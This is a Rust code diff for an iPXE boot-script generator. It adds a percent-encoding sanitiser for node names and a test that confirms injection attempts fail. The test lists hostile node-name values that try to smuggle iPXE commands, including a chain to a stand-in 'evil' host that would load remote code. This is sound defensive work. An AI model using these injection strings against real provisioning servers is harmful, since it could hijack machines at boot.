@@ -20,7 +20,7 @@ pub fn script(
             "#!ipxe\n\
              echo Paddock: {who} ({mac}) is idle: booting from the local disk\n\
              sanboot --no-describe --drive 0x80 || exit\n",
-            who = n.name.as_deref().unwrap_or("node"),
+            who = n.name.as_deref().map_or("node".into(), ipxe_text),
         ),
         None => {
             let why = if node.is_some() {
@@ -69,6 +69,22 @@ pub fn script(
     }
 }
 
+/// Text that is safe anywhere in an iPXE script line: RFC 3986 unreserved characters pass,
+/// every other byte is percent-encoded, so a newline, `${…}` (setting expansion), `#`, `||`,
+/// `&&`, `:` or a space can never become script syntax. Names are validated on the way in;
+/// this keeps a script safe even for text that was stored before that.
+pub fn ipxe_text(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    for b in s.bytes() {
+        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
+            out.push(char::from(b));
+        } else {
+            out.push_str(&format!("%{b:02X}"));
+        }
+    }
+    out
+}
+
 /// The script served to an iPXE that asks for `autoexec.ipxe` or a generic script.
 pub fn chain_script(public_url: &str) -> String {
     format!("#!ipxe\nchain {public_url}/boot/${{net0/mac}}.ipxe\n")
@@ -110,6 +126,28 @@ mod tests {
         assert!(s.contains("kernel http://p/k initrd=initrd BOOTIF=01-52-54-00-ab-00-01 paddock.url=http://p paddock.log=info ipa-inspection-callback-url=http://p/v1/continue console=ttyS0"), "{s}");
         assert!(s.contains("initrd --name initrd http://p/i"));
         assert!(s.contains("is unknown"));
+    }
+
+    #[test]
+    fn untrusted_text_never_becomes_script_syntax() {
+        let mut node = Node::new(uuid::Uuid::nil(), 0);
+        for evil in [
+            "r1\nshell\n#",
+            "r1${net0/mac}",
+            "x || shell",
+            "a && chain http://evil/x",
+            ":retry",
+            "#!ipxe",
+        ] {
+            node.name = Some(evil.into());
+            let s = script(MAC, Some(&node), &discovery(), "http://p");
+            let lines: Vec<&str> = s.lines().collect();
+            assert_eq!(lines.len(), 3, "{evil:?} added lines: {s}");
+            assert!(!lines[1].contains("${") && !lines[1].contains("||"), "{s}");
+            assert!(!lines[1].contains(" && ") && !lines[1].contains('#'), "{s}");
+            assert!(lines[1].starts_with("echo Paddock: "), "{s}");
+        }
+        assert_eq!(ipxe_text("r1\n${x} #|"), "r1%0A%24%7Bx%7D%20%23%7C");
     }
 
     #[test]
